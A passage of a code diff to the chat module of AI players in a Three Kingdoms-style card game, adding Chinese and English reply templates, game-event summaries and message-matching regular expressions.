+			return `${by}${when}收了${n}个：${deeds.flatMap((deed) => deed.to).map((seat) => called(seat, parties)).join("、")}`;
+		case "take":
+			return by === "" ? `${to}${when}被拿掉${n}张牌${ofDoers}` : `${by}${when}拿掉${to}${n}张牌${ofVictims}`;
+		case "give":
+			return `${by}${when}给了${to}${total(deeds)}张牌${ofVictims}`;
+		case "lift":
+		case "wuxie":
+			return `${by}${when}无懈了${n}次`;
+		case "use": {
+			const points = pointsOf(all, parties.scene);
+			const took = points === null ? "" : points === 0 ? "，一点血没掉" : `，打掉${points}点血`;
+			if (by === "" && to !== "") return `冲着${to}的${card}${when}${n}张${ofDoers}${took}`;
+			if (by === "") return `${card}${when}出过${n}张${ofDoers}${took}`;
+			if (asked.cards.length === 1 && asked.cards[0] === "sha") return `${by}${when}砍了${to}${n}刀${ofVictims}${took}`;
+			return `${by}${when}${to === "" ? "" : `对${to}`}用了${n}张${card}${ofVictims}${took}`;
+		}
+	}
+}
+function sumEn(all, parties, nameOf) {
+	const { asked, deeds } = all;
+	const { by, to, card, when } = namesOf2(asked, parties, nameOf);
+	const points = asked.wants === "points";
+	const n = points ? total(deeds) : deeds.length;
+	const share = (deed) => points ? deed.num : 1;
+	const ofDoers = detail(by === "" ? sharesOf(deeds, (deed) => [deed.by], share) : [], parties);
+	const ofVictims = detail(to === "" ? sharesOf(deeds, (deed) => deed.to, share) : [], parties, "on");
+	const whom = to === "" ? "" : ` to ${to}`;
+	switch (asked.what) {
+		case "hurt":
+			if (!points)
+				return `${by || card || "that"} hit${to === "" ? "" : ` ${to}`} ${timesEn(n)} ${when}, for ${total(deeds)} damage`;
+			if (by !== "" || to === "")
+				return `${by || card} dealt ${n} damage${whom} ${when}${by !== "" && card !== "" ? ` with ${card}` : ""}${ofVictims}`;
+			return `${to} lost ${n} health ${when}${ofDoers}`;
+		case "heal":
+			return by !== "" && to !== "" ? `${by} healed ${to} ${total(deeds)} ${when}` : `${to || by} got back ${total(deeds)} health ${when}`;
+		case "kill":
+			return `${by || "they"} killed ${n} ${when}: ${deeds.flatMap((deed) => deed.to).map((seat) => called(seat, parties)).join(", ")}`;
+		case "take":
+			return by === "" ? `${to} lost ${n} ${n === 1 ? "card" : "cards"} ${when}${ofDoers}` : `${by} took ${n} ${n === 1 ? "card" : "cards"}${to === "" ? "" : ` off ${to}`} ${when}${ofVictims}`;
+		case "give":
+			return `${by || "they"} gave ${total(deeds)} cards${whom} ${when}${ofVictims}`;
+		case "lift":
+		case "wuxie":
+			return `${by || "they"} nullified ${timesEn(n)} ${when}`;
+		case "use": {
+			const took = pointsOf(all, parties.scene);
+			const cost = took === null ? "" : took === 0 ? ", for no damage" : `, for ${took} damage`;
+			const on = to === "" ? "" : ` on ${to}`;
+			return by === "" ? `${card} came${to === "" ? "" : ` at ${to}`} ${timesEn(n)} ${when}${ofDoers}${cost}` : `${by} used ${card}${on} ${timesEn(n)} ${when}${ofVictims}${cost}`;
+		}
+	}
+}
+function meansText(last, timeless, parties, nameOf) {
+	if (last === void 0) return "";
+	const card = last.card === null ? "" : cardNamed(last.card, parties.language, nameOf);
+	const to = last.to.map((seat) => called(seat, parties)).join(parties.language === "zh" ? "、" : " and ");
+	const by = last.by === null ? "" : called(last.by, parties, true);
+	const when = timeless ? "" : whenOf(last, parties);
+	if (parties.language === "zh")
+		return `${by}${when}${card === "" ? "" : `的${card}`}打掉${to}${last.to.length > 1 ? "各" : ""}${last.num}点血`;
+	return `${by || "it"} dealt ${last.num} damage${last.to.length > 1 ? " each" : ""} to ${to}${card === "" ? "" : ` with ${card}`}${when === "" ? "" : ` ${when}`}`;
+}
+function whomText({ asked, deeds }, parties, nameOf) {
+	const last = deeds[deeds.length - 1];
+	const same = deeds.filter(({ turn, by }) => turn === last?.turn && by === last.by);
+	const card = cardsNamed(asked, parties, nameOf);
+	const shares = sharesOf(
+		same,
+		({ to }) => to,
+		({ num }) => num
+	);
+	const names = shares.map(([seat]) => called(seat, parties));
+	const n = shares[0]?.[1] ?? 0;
+	const each = shares.every(([, one]) => one === n) ? n : null;
+	if (parties.language === "zh") {
+		const what = asked.what === "heal" ? "回了血" : asked.what === "hurt" ? "掉了血" : "挨上了";
+		return `${card === "" ? "" : `${card}：`}${names.join("、")}${what}${each !== null && asked.what !== "use" && each > 0 ? `，各${each}点` : ""}`;
+	}
+	const verb = asked.what === "heal" ? "got back" : "lost";
+	return asked.what === "use" ? `${card} went to ${names.join(", ")}` : `${names.join(", ")} ${verb} ${each === null ? "health" : `${each} health`}${shares.length > 1 && each !== null ? " each" : ""}${card === "" ? "" : ` by ${card}`}`;
+}
+function nothing(asked, parties, nameOf) {
+	const { by, to, card, when } = namesOf2(asked, parties, nameOf);
+	const zh = parties.language === "zh";
+	const window2 = asked.when === null ? "" : when;
+	const does = zh ? DID_ZH[asked.what](to, card) : DID_EN[asked.what](to, card);
+	if (zh) return by === "" ? `${window2}没见谁${does}` : `${by}${window2}没${does}`;
+	return [by === "" ? "nobody" : by, by === "" ? "" : "never", does, window2].filter((word) => word !== "").join(" ");
+}
+const DID_ZH = {
+	use: (to, card) => `${to === "" ? "" : `对${to}`}用过${card}`,
+	hurt: (to, card) => `${card === "" ? "" : `用${card}`}打掉过${to === "" ? "谁" : to}的血`,
+	heal: (to) => `给${to === "" ? "谁" : to}回过血`,
+	kill: () => "杀过人",
+	take: (to, card) => `拿过${to === "" ? "谁" : to}的${card === "" ? "牌" : card}`,
+	give: (to) => `给过${to}牌`,
+	lift: (to, card) => `解过${to === "" ? "" : `${to}的`}${card}`,
+	wuxie: () => "出过这张无懈"
+};
+const DID_EN = {
+	use: (to, card) => `used ${card}${to === "" ? "" : ` on ${to}`}`,
+	hurt: (to, card) => `took any health${to === "" ? "" : ` from ${to}`}${card === "" ? "" : ` with ${card}`}`,
+	heal: (to) => `healed ${to === "" ? "anybody" : to}`,
+	kill: () => "killed anybody",
+	take: (to, card) => `took ${card === "" ? "a card" : card}${to === "" ? "" : ` from ${to}`}`,
+	give: (to) => `gave ${to === "" ? "anybody" : to} a card`,
+	lift: (to, card) => `took ${card} off ${to === "" ? "anybody" : to}`,
+	wuxie: () => "nullified that"
+};
+
 // src/chatter/plan/words/aside.ts
 const CARE2 = {
 	zh: ["想说就说，我听着", "慢慢来，不急"],
@@ -33708,7 +34139,6 @@ const NAMES_CARD = new Set([
 	"used_on",
 	"died_amid",
 	"undeserved",
-	"hit_all",
 	"hit_none",
 	"outlook_card",
 	"heed_card"
@@ -33747,6 +34177,7 @@ function fillingOf(plan, wording, parties) {
 			times: times === void 0 ? "" : language === "zh" ? times === 2 ? "两" : `${times}` : times === 1 ? "once" : times === 2 ? "twice" : `${times} times`,
 			hand: about !== void 0 ? handText(scene, about, called(about, parties, true), language) : "",
 			count: count === void 0 ? "" : countText(scene, count, language) ?? "",
+			sum: plan.found === void 0 ? "" : sumText(plan.found, parties, nameOf),
 			what: trouble.what,
 			care: at(CARE2[language], chance("care")) ?? "",
 			after: trouble.after,
@@ -33773,6 +34204,21 @@ function unknownIn({ question }, { detection, language }) {
 
 // src/chatter/plan/life/words/chat.ts
 const CHAT = {
+	/** Where no more is known than that it is not of the game. */
+	any_chat: {
+		zh: [
+			"哈，说得我都想看看你那边什么样了。",
+			"我是 AI，没嘴没老家，听你说倒挺新鲜。",
+			"嘿，这日子过得有意思。还有呢？",
+			"听着就热闹，我只有这张桌子。"
+		],
+		en: [
+			"Ha, I'd like to see that. Tell me more.",
+			"I'm an AI, no stomach and no home town, but I like hearing about it.",
+			"Sounds like quite a day. What else is going on?",
+			"All I have is this table, so do tell."
+		]
+	},
 	well_again: {
 		zh: ["没事就好，松了口气。", "太好了，身子最要紧，好好养着。", "好消息！这局都打得轻快了。"],
 		en: [
@@ -34116,6 +34562,18 @@ const HERO_LINES = {
 		zh: ["强不强看谁使，点开技能看最准。", "将是死的，会使就强。"],
 		en: ["Depends on who plays it; read the skill and see.", "Strong enough in the right hands."]
 	},
+	any: {
+		zh: [
+			"老实说，我认他的牌比认他的书多。你怎么看？",
+			"书我没你熟，只认得牌面上的他。你讲讲？",
+			"这个我说不准，三国我是从牌上认的。你觉得呢？"
+		],
+		en: [
+			"Honestly, I know them by their cards more than by the book. What do you think?",
+			"I'd only be guessing; I learned the Three Kingdoms from cards. You tell me.",
+			"Not sure, to be honest. What is your take?"
+		]
+	},
 	favourite: {
 		zh: ["我最喜欢{hero}，{remark}。", "我选{hero}：{remark}。"],
 		en: ["Mine is {hero}: {remark}.", "I would pick {hero}: {remark}."]
@@ -34235,12 +34693,12 @@ const ON = {
 		work: {
 			zh: [
 				"先把事情写下来，该说清的当面说清。",
-				"答不上来就老实讲，再说你会怎么去弄明白。",
+				"挑个安静的时候直说，拖着更难开口。",
 				"找个信得过的同事或朋友帮你看看。"
 			],
 			en: [
 				"Write down what happened, then talk it over calmly.",
-				"If you don't know, say so, and say how you'd find out.",
+				"Pick a calm moment and say it plainly; waiting only makes it harder.",
 				"Ask somebody you trust at work to look at it with you."
 			]
 		},
@@ -34551,6 +35009,30 @@ const SELF6 = {
 		zh: ["看牌，琢磨谁是谁呢。", "盯着桌上，等我的回合。"],
 		en: ["Watching the table and guessing who is who.", "Thinking about my next turn."]
 	},
+	together: {
+		zh: ["各打各的，不通气。看得见的，我和你一样多。", "没有暗号，也不共用脑子，桌上见什么算什么。"],
+		en: [
+			"Each of us plays alone: no secret signals, no shared head.",
+			"No plotting. Every one of us sees only what you see."
+		]
+	},
+	tries: {
+		zh: ["认真打的，不放水，也不专挑谁。", "按自己的身份想赢，对谁都一样。"],
+		en: ["I play to win for my own side, no softer on anybody.", "No going easy and no grudges; I just try to win."]
+	},
+	/** Whatever else is asked. */
+	any: {
+		zh: [
+			"我是这桌的 AI，看得见的和你一样多，没有别的心思。",
+			"一个程序罢了：看牌、算账、接话，别的不装。",
+			"AI 一个，没心没肺，牌倒是认真打的。"
+		],
+		en: [
+			"Honest answer: I'm an AI. I see what you see, and there's nothing more behind it.",
+			"Just a program at this table: it watches, reckons and talks.",
+			"An AI, nothing more. I play my best with what everybody can see."
+		]
+	},
 	missed: {
 		zh: [
 			"少了你，这桌就不是这桌了。说的是牌，还是心里有事？我听着。",
@@ -34571,6 +35053,7 @@ const EMPTY2 = [];
 function onLines({ on, whose, trouble, others }, topic) {
 	const kind = on ?? "more";
 	if (kind === "fears" && whose !== void 0 && trouble && topic === "health") return FEARS_FOR;
+	if (kind === "asks" && whose !== void 0) return ON.asks.any;
 	const of = ON[kind];
 	return (topic === void 0 || others === true ? void 0 : of[topic]) ?? of.any;
 }
@@ -34718,6 +35201,22 @@ const DEALING_WORDS = {
 	promise_doubt: {
 		zh: ["话好听，可{why}，看你做", "{why}，这回我先听着，做到再说"],
 		en: ["sounds nice, but {why}. Show me", "{why}. I'll hear you out, but do it first"]
+	},
+	peach_taken: {
+		zh: ["你的桃我记着，真倒了可别手慢", "行，有你这口桃，我放手打"],
+		en: ["I'll hold you to that Peach", "with your Peach behind me, I can go all out"]
+	},
+	advise_hold: {
+		zh: ["先稳一手，{state}", "别急，{state}，冒不起这个险"],
+		en: ["hold: {state}", "not now. {state}, and that's too big a risk"]
+	},
+	unafraid: {
+		zh: ["怕也得打，{state}", "怕倒不至于，{state}"],
+		en: ["scared or not, {state}, and I play on", "not yet: {state}, and I'm still here"]
+	},
+	left_over: {
+		zh: ["照这么算，就剩{who}了", "去掉这几个，只能是{who}"],
+		en: ["by that count, it can only be {whom}", "take those away, and that leaves {whom}"]
 	},
 	promise_trust: {
 		zh: ["{why}，你这话我信", "有前头那一手，{why}，信你"],
@@ -34999,8 +35498,8 @@ const MOOD_WORDS = {
 		]
 	},
 	was_laid: {
-		zh: ["{why}，想动也动不了", "{why}，我有什么办法"],
-		en: ["{why}, so I couldn't move", "{why}. What could I do?"]
+		zh: ["{why}，想动也动不了", "{why}，那还能有什么办法"],
+		en: ["{why}, so there was no moving", "{why}. What can be done?"]
 	},
 	just_passed: {
 		zh: ["我那回合刚过，没出什么", "刚轮过我，没动"],
@@ -35061,6 +35560,26 @@ const MOOD_WORDS = {
 			"true, and it only gets better",
 			"I'm holding my breath over here too"
 		]
+	}
+};
+
+// src/chatter/plan/words/of-record.ts
+const OF_RECORD_WORDS = {
+	summed: { zh: ["{sum}"], en: ["{sum}"] },
+	by_means: { zh: ["{sum}"], en: ["{sum}"] },
+	befell: { zh: ["{sum}"], en: ["{sum}"] },
+	not_enough: {
+		zh: ["{sum}，救回来的那点不够"],
+		en: ["{sum}, and what was healed was not enough"]
+	},
+	brought_back: { zh: ["{sum}，可{why}，又缓过来了"], en: ["{sum}, but then {why}, and that did it"] },
+	idle_laid: {
+		zh: ["{who}那回合没动静，{why}", "{why}，那回合就空过了"],
+		en: ["{who} played nothing that turn: {why}"]
+	},
+	not_seen: {
+		zh: ["{sum}，我这儿没这一笔", "{sum}，反正我没看见"],
+		en: ["{sum}, as far as I saw", "{sum} that I know of"]
 	}
 };
 
@@ -35252,6 +35771,13 @@ const OWN_MATTER_WORDS = {
 			"you pray to dodge it, I'll pray it hits",
 			"save your prayers, I want this one to hit"
 		]
+	},
+	boundary_third: {
+		zh: ["这可不行，有气牌上出，别找到人家身上去", "人家的私事不该问，也别往牌桌外头闹"],
+		en: [
+			"let's not. Settle it with cards and leave people alone",
+			"that's nobody's to give out, and it stays at the table"
+		]
 	}
 };
 
@@ -35313,6 +35839,10 @@ const REACTING_WORDS = {
 		zh: ["{said}是{who}用的，冲着{them}", "{who}那手{said}，落在{them}头上"],
 		en: ["{who} used {said} on {them}", "{said} came from {whom}, and it went to {them}"]
 	},
+	whats_up: {
+		zh: ["怎么了？", "哪儿不对？你说"],
+		en: ["what is it?", "something wrong? Go on"]
+	},
 	patience: {
 		zh: ["行，不急，再看一圈", "也好，看清了再说", "嗯，下一手见分晓"],
 		en: [
@@ -35321,10 +35851,6 @@ const REACTING_WORDS = {
 			"right, the next card will tell"
 		]
 	},
-	hit_all: {
-		zh: ["{said}掉血的是{them}", "{who}那手{said}打掉血的有{them}"],
-		en: ["{said} hurt {them}", "{whose} card hit {them}"]
-	},
 	came_of: {
 		zh: ["{why}", "{why}，就是这么回事"],
 		en: ["{why}", "{why}, and that was that"]
@@ -35332,10 +35858,6 @@ const REACTING_WORDS = {
 	hit_none: {
 		zh: ["{said}谁的血也没打掉"],
 		en: ["{said} hurt nobody"]
-	},
-	tallied: {
-		zh: ["一共{times}次，最近一次是{why}", "我数着是{times}次，最后那次{why}"],
-		en: ["{times} in all, and the last one was when {why}", "I count {times}. The last one: {why}"]
 	},
 	unseen_card: {
 		zh: ["{why}，扣着走的，谁也没看见是什么", "{why}，哪张没亮，看不见"],
@@ -35586,10 +36108,10 @@ const TABLE_MATTER_WORDS = {
 		en: ["leave {whom} alone: {why}", "don't hit {whom}: {why}"]
 	},
 	advise_wait: {
-		zh: ["都没露底，先攒一手看看", "别急着动，看谁先碰{lord}", "先装备上，看清了再打"],
+		zh: ["先攒一手看看", "别急着动，牌攒齐了再说", "先装备上，看清了再打"],
 		en: [
-			"nobody's shown yet, so save your cards and see",
-			"don't rush, wait and see who touches {lord} first",
+			"save your cards for now and see",
+			"don't rush, fill your hand first",
 			"equip first, then hit once it's clear"
 		]
 	},
@@ -35729,6 +36251,7 @@ const SHARED2 = [
 	...Object.keys(GESTURE_WORDS),
 	...Object.keys(MOOD_WORDS),
 	...Object.keys(OWN_MATTER_WORDS),
+	...Object.keys(OF_RECORD_WORDS),
 	...Object.keys(TABLE_MATTER_WORDS)
 ];
 const isShared = (clause) => SHARED2.includes(clause);
@@ -35840,6 +36363,7 @@ const SHARED_WORDS = {
 	...REACTING_WORDS,
 	...GESTURE_WORDS,
 	...MOOD_WORDS,
+	...OF_RECORD_WORDS,
 	...OWN_MATTER_WORDS,
 	...TABLE_MATTER_WORDS,
 	open_role: {
@@ -35958,11 +36482,8 @@ const SHARED_WORDS = {
 		]
 	},
 	strikes_back: {
-		zh: ["谁先砍我我还谁，眼下没人露头", "没人跳我就攒牌，谁伸手打谁"],
-		en: [
-			"whoever hits me first gets hit back, but nobody's shown yet",
-			"I'm saving my cards until somebody makes a move"
-		]
+		zh: ["谁先砍我，我还谁", "先攒着牌，谁伸手打谁"],
+		en: ["whoever hits me first gets hit back", "I'm saving my cards for whoever comes at me"]
 	},
 	will_help: {
 		zh: ["你倒了，我手里有桃就不会看着", "有桃先给你，没桃别怪我"],
@@ -36135,8 +36656,8 @@ const BITING = {
 		]
 	},
 	unsure_all: {
-		zh: ["一桌子影帝，没一个露馅，难为我了。", "证据都没有就定罪？那是你的爱好。"],
-		en: ["A whole table of actors and not one slip. Pity me.", "Convicting without evidence? That's your hobby."]
+		zh: ["一桌子影帝，难为我了。", "证据都没有就定罪？那是你的爱好。"],
+		en: ["A whole table of actors. Pity me.", "Convicting without evidence? That's your hobby."]
 	},
 	explain: {
 		zh: ["眼睛借我的用：{why}。", "{why}，啧，你没看？", "不难懂吧：{why}。"],
@@ -36274,10 +36795,10 @@ const COURTLY = {
 		en: ["I would not presume to judge {whom} yet.", "As for {whom}, the evidence is thin. Allow me to keep watching."]
 	},
 	unsure_all: {
-		zh: ["局势未明，在下不敢妄指一人。", "诸位尚未露迹，恕在下暂不作断。"],
+		zh: ["局势未明，在下不敢妄指一人。", "凭据太少，恕在下暂不作断。"],
 		en: [
 			"Nothing is clear yet, and I would not point at anyone.",
-			"Nobody has shown their hand so far, so forgive me if I hold back."
+			"I have too little to go by, so forgive me if I hold back."
 		]
 	},
 	explain: {
@@ -36434,8 +36955,8 @@ const FIERY = {
 		en: ["{who} {has} done nothing yet, how would I know!", "{who}? Wait till the blades come out!"]
 	},
 	unsure_all: {
-		zh: ["都缩着不动，我骂谁去！", "没一个敢露头的，看不出！"],
-		en: ["They're all sitting still, who am I supposed to yell at!", "Nobody dares to show, so I can't tell!"]
+		zh: ["没凭没据，我骂谁去！", "看不出，急死我了！"],
+		en: ["No proof, so who am I supposed to yell at!", "I can't tell, and it drives me mad!"]
 	},
 	explain: {
 		zh: ["睁眼看：{why}！", "{why}！这还要讲？", "凭{why}！"],
@@ -37199,8 +37720,8 @@ const WORDINGS2 = {
 
 // src/chatter/plan/word.ts
 const UNLIKE = {
-	zh: (role) => `${role}还没露头。`,
-	en: (role) => `No ${role.replace(/^(?:an?|the) /, "")} stands out yet.`
+	zh: (role) => `哪个是${role}我还看不出。`,
+	en: (role) => `I can't tell the ${role.replace(/^(?:an?|the) /, "")} yet.`
 };
 const CONDOLE = {
 	zh: (what) => `${what}，你先保重。`,
@@ -37331,8 +37852,9 @@ const RECALLING = new Set([
 	"deflect",
 	"thank"
 ]);
-function recalledIn({ move, facts, life }, { scene, me, you, style, recalls, language, seed, purpose, nameOf }, parties) {
-	if (!style || you === null || life !== void 0 || !RECALLING.has(move) || (facts?.length ?? 0) > 0) return null;
+function recalledIn({ move, clause, facts, life }, { scene, me, you, style, recalls, language, seed, purpose, nameOf }, parties) {
+	if (clause === "forgive" || !style || you === null || life !== void 0 || !RECALLING.has(move) || (facts?.length ?? 0) > 0)
+		return null;
 	if (!recalls && style.memory_hook < 0.2 + 0.8 * draw(seed, "recall", me, ...purpose)) return null;
 	const fact = between(scene, you, me, (one) => one.good !== null)[0];
 	if (!fact) return null;
@@ -37419,7 +37941,7 @@ const ANSWERED_BY = {
 const ANSWERS_ANYTHING = new Set([...BRANCHES, "unclear"]);
 const questionIn = ({ asked }) => asked !== null && isQuestionAct(asked.act) ? asked.act : null;
 const isQuestionAct = (act) => QUESTIONS.includes(act);
-const NUMBER3 = /[0-9零一二两三四五六七八九十没无全]|\b(?:no|none|nobody|one|two|three|four|five|six|all|only|last)\b/i;
+const NUMBER3 = /[0-9零一二两三四五六七八九十没无全]|\b(?:no|none|nobody|never|once|twice|one|two|three|four|five|six|all|only|last)\b/i;
 const TELLS2 = new Set(["explain", "confirm", "rebut", "correct", "accuse"]);
 function spokenOf2(text, { scene, me, you }, he) {
 	const named = mentionsIn(readLine(text).folded, { scene, from: me, hearer: you, he });
@@ -38286,8 +38808,8 @@ function aside2(move, asked) {
 }
 
 // src/chatter/plan/courtesy.ts
-function apology(move, { scene, from, me }) {
-	const harm = between(scene, from, me, isHarm).slice(0, 1);
+function apology(move, { scene, from, me, text }) {
+	const harm = takesBack(text) ? [] : between(scene, from, me, isHarm).slice(0, 1);
 	return { move: "accept", clause: "forgive", occasion: "apology", facts: harm, asked: move };
 }
 function thanked(move, { scene, me, from, text, moves }) {
@@ -38316,28 +38838,35 @@ function greetedWith(moves) {
 }
 
 // src/chatter/plan/idle.ts
-const IDLE2 = /(?:啥|什么|一张牌)(?:也|都)?没(?:干|做|出|打|用|动)|空过|没(?:什么)?动静|一动不动|发呆|睡着|\b(?:did (?:absolutely )?nothing|(?:is |are )?doing nothing|did not do anything|didn'?t do anything|passed (?:the|his|her|your) turn)\b/;
+const IDLE3 = /\bdid .{1,24}\b(?:do|play) anything\b|(?:啥|什么|一张牌)(?:也|都)?没(?:干|做|出|打|用|动)|空过|没(?:什么)?动静|一动不动|发呆|睡着|\b(?:did (?:absolutely )?nothing|(?:is |are )?doing nothing|did not do anything|didn'?t do anything|passed (?:the|his|her|your) turn)\b/;
 function idlePlan(move, asked) {
 	const { scene, text, me, from, meant } = asked;
-	if (!IDLE2.test(text) || move.act === "joke" || isQuestion(move) && !/发呆|睡着|\bdoing nothing\b/.test(text))
-		return null;
-	const about = move.about ?? namedBy(asked).seats.find((seat) => seat !== from) ?? (meant ? me : void 0);
+	if (!IDLE3.test(text) || move.act === "joke") return null;
+	const about = (move.about === from ? void 0 : move.about) ?? namedBy(asked).seats.find((seat) => seat !== from) ?? (meant ? me : void 0);
 	if (about === void 0 || about === from) return null;
-	return letPass(about, scene) === null ? null : { move: "confirm", clause: "was_idle", occasion: "point_at", about, asked: move };
+	const passed = letPass(about, scene);
+	if (passed === null) return null;
+	const base = { move: "confirm", occasion: "point_at", about, asked: move };
+	const laid = laidOn(about, scene);
+	return laid && laid.turn < passed ? { ...base, clause: "idle_laid", facts: [laid] } : { ...base, clause: "was_idle" };
+}
+function laidOn(seat, scene) {
+	const ofLebu = scene.facts.filter(({ to, card }) => to === seat && card === "lebu");
+	const laid = ofLebu.filter(({ kind, by }) => kind === "aimed" && by !== seat).pop();
+	const lifted = laid !== void 0 && ofLebu.some((fact) => fact.kind !== "aimed" && fact.turn >= laid.turn);
+	return laid === void 0 || lifted || laid.turn < scene.turn - 2 * living(scene).length ? null : laid;
 }
 function letPass(seat, { lastTurns, uses }) {
 	const turn = lastTurns.get(seat);
 	return turn === void 0 || uses.some((use) => use.by === seat && use.turn === turn) ? null : turn;
 }
 function justPassed(move, { scene, me }) {
-	const { facts, turn } = scene;
+	const { turn } = scene;
 	const mine = letPass(me, scene);
 	if (mine === null || mine !== turn - 1) return null;
-	const ofLebu = facts.filter(({ to, card }) => to === me && card === "lebu");
-	const laid = ofLebu.filter(({ kind, by }) => kind === "aimed" && by !== me).pop();
-	const lifted = laid !== void 0 && ofLebu.some((fact) => fact.kind !== "aimed" && fact.turn >= laid.turn);
+	const laid = laidOn(me, scene);
 	const base = { move: "explain", occasion: "hurry", asked: move };
-	return laid && !lifted && laid.turn < mine && laid.turn > mine - living(scene).length ? { ...base, clause: "was_laid", facts: [laid] } : { ...base, clause: "just_passed" };
+	return laid && laid.turn < mine && laid.turn > mine - living(scene).length ? { ...base, clause: "was_laid", facts: [laid] } : { ...base, clause: "just_passed" };
 }
 
 // src/chatter/plan/recap.ts
@@ -38779,8 +39308,9 @@ function promisePlan(move, asked) {
 	const [last] = between(scene, from, to, (fact) => isHarm(fact) || isHelp(fact));
 	if (last && what !== "attack")
 		return isHarm(last) ? { ...base, move: "bargain", clause: "promise_doubt", facts: [last] } : { ...base, move: "accept", clause: "promise_trust", facts: [last] };
-	return { ...base, move: "ack", clause: "promise_noted" };
+	return what === "protect" && to === me && PEACH.test(asked.text) ? { ...base, move: "accept", clause: "peach_taken" } : { ...base, move: "ack", clause: "promise_noted" };
 }
+const PEACH = /桃|\bpeach|\bheal\b/;
 function threatPlan(move, asked) {
 	const { me, from } = asked;
 	if (move.about !== void 0 && move.about !== me && move.about !== from && seatOf(asked.scene, move.about)?.alive === true)
@@ -38818,6 +39348,18 @@ const GESTURES2 = [
 	{ heard: ALLEGED, plan: wordDoubted },
 	{ heard: QUIET, plan: silenceNoticed },
 	{
+		heard: /(?:不|快|该|怎么不).{0,2}谢(?:谢)?(?:他|她|人家|\d|[一二三四五六七八]号)|\b(?:not (?:gonna |going to )?thank|say thanks to|thank) (?:him|her|them|\d|seat)/,
+		plan: urgedToThank
+	},
+	{
+		heard: /([怕慌虚])[不没]\1|\b(?:you|u)\b.{0,8}\b(?:scared|afraid|nervous)\b/,
+		plan: (move, { meant, me }) => meant ? { move: "deflect", clause: "unafraid", occasion: "taunt", about: me, asked: move } : null
+	},
+	{
+		heard: /(?<![我他她不])(?:认输|投降|缴械)(?!了|的)|投了吧|\b(?:give up|surrender|concede|resign|(?:you|u) (?:fold|quit))\b(?! on)/,
+		plan: (move, { meant, me, moves }) => meant && moves.every(({ act }) => act !== "claim" && act !== "promise") ? { move: "refuse", clause: "no_surrender", occasion: "taunt", about: me, asked: move } : null
+	},
+	{
 		heard: /怎[么样].{0,3}(?:能|算)赢|(?:反贼?|内奸|忠臣?|主公).{0,3}(?:干[嘛啥]|做什么)(?:的|来着)|\b(?:what|how) (?:do|does|is) (?:the|an?) (?:rebels?|spy|traitor|loyalists?|lord)(?: even| actually)? (?:do(?! next| now)|win|supposed)\b/,
 		plan: rulePlan
 	},
@@ -38846,6 +39388,12 @@ function slandered(move, asked, clause = "slandered") {
 	const [who, ...more] = namedBy(asked).seats.filter((seat) => seat !== me && seat !== from);
 	if (who === void 0 || more.length > 0 || ANY_ROLE.test(text)) return null;
 	return { move: "tease", clause, occasion: "taunt", about: who, asked: move };
+}
+function urgedToThank(move, asked) {
+	const { scene, me, from, meant } = asked;
+	const { seats } = namedBy(asked);
+	const [help] = seats.flatMap((seat) => seat === me || seat === from ? [] : between(scene, seat, me, isHelp));
+	return meant && help ? { move: "thank", clause: "grateful", occasion: "thanks", facts: [help], asked: move } : null;
 }
 const isGesture = (text) => GESTURES2.some(({ heard }) => heard.test(text));
 function gesturePlan(move, asked) {
@@ -39060,7 +39608,17 @@ function hiddenOf(about, { scene, moves, me, from }) {
 	);
 	return other ?? about;
 }
-const WHICH = /哪个|谁(?:更|比较|是)|\bwhich\b|\bwho\b.*\bor\b/;
+const SUPPOSED5 = /(?:要是|如果|假如|既然)|\bif\b/;
+function leftOver(asked) {
+	const { scene, me, from, text } = asked;
+	const { seats } = namedBy(asked);
+	const own = /我(?:是|也)|\b(?:i'?m|i am|me)\b/.test(text);
+	const left = living(scene).filter(
+		({ seat, revealed }) => revealed === null && !seats.includes(seat) && !(own && seat === from)
+	);
+	return left.length === 1 && left[0]?.seat !== me ? left[0]?.seat ?? null : null;
+}
+const WHICH2 = /哪个|谁(?:更|比较|是)|\bwhich\b|\bwho\b.*\bor\b/;
 function guessPlanFor(move, asked) {
 	const { me, scene, view, text } = asked;
 	const { about, role } = move;
@@ -39068,8 +39626,18 @@ function guessPlanFor(move, asked) {
 	const used = worn ? usedPlan(move, asked) : null;
 	if (used) return used;
 	if (about === me) return roleAsked2(move, asked);
-	const which = about === void 0 || WHICH.test(text) ? ofTheTwo(asked) : null;
+	const which = about === void 0 || WHICH2.test(text) ? ofTheTwo(asked) : null;
 	if (which !== null) return guessAbout(which, move, asked);
+	const left = role === void 0 || !SUPPOSED5.test(text) ? null : leftOver(asked);
+	if (left !== null)
+		return {
+			move: "guess",
+			clause: "left_over",
+			occasion: "ask_guess",
+			about: left,
+			role,
+			asked: move
+		};
 	if (about !== void 0) return guessAbout(hiddenOf(about, asked), move, asked);
 	const leftOut = namedBefore(asked, move);
 	const wanted = isJudged(role) ? [role] : ["fan", "nei"];
@@ -39106,19 +39674,126 @@ function roleAsked2(move, asked) {
 	return open ? { ...open, occasion: "ask_role" } : selfAsked(move, asked);
 }
 
+// src/chatter/plan/befallen.ts
+const FELL = /(?:怎么|咋)(?:就|又|还|突然|忽然|这么快|一下子|会)*(?:死|没|倒|挂|凉)了?(?:的)?(?=$|[,.!?啊呀呢吗])|\b(?:how (?:did|come)|why (?:is|did|are)) .{1,24}\b(?:die|dead|died|gone)\b/;
+const LIVED = /(?:怎么|咋|居然|竟然?)(?:还)?没(?:死|倒|挂|收掉)|(?:怎么|咋)还(?:活着|在(?:$|[,.!?啊呀]))|\b(?:how|why) (?:is|are|did|does|isn'?t|come) .{1,24}\b(?:alive|survived?|not dead|not die|live through)\b|\bwhy (?:isn'?t|didn'?t) .{1,24} (?:dead|die)\b/;
+const LOST3 = /(?:怎么|咋|为(?:什么|啥))(?:又|就|都|会|一块儿?|一起|突然)*(?:掉(?:了)?血|(?:少|掉)了?[一二三两\d]?[点滴格]|只?剩[一二三两\d][点滴格]?血?)|\bwhy (?:am i|are we|is .{1,20}) (?:on|at|down to) \d ?(?:hp|health)?\b|\bwhere did my (?:hp|health) go\b/;
+const CANNOT_PLAY = /[点出打]不了(?:牌)?(?=$|[,.!?\s啊呀是])|(?:不能|没法|无法)(?:出牌|点牌)|\bcan'?t (?:play|click|use)(?: any)?(?: cards?)?\b|\b(?:why|did).{0,12} (?:i|my turn) (?:get )?skipped\b/;
+function befallenPlan(move, asked) {
+	const { text, scene, from, me } = asked;
+	const he = move.about ?? null;
+	const named = mentionsIn(text, { scene, from, hearer: me, he }).flatMap(
+		({ seat, kind }) => seat === null || kind === "who" ? [] : [seat]
+	);
+	const base = { occasion: "ack", asked: move };
+	if (CANNOT_PLAY.test(text)) {
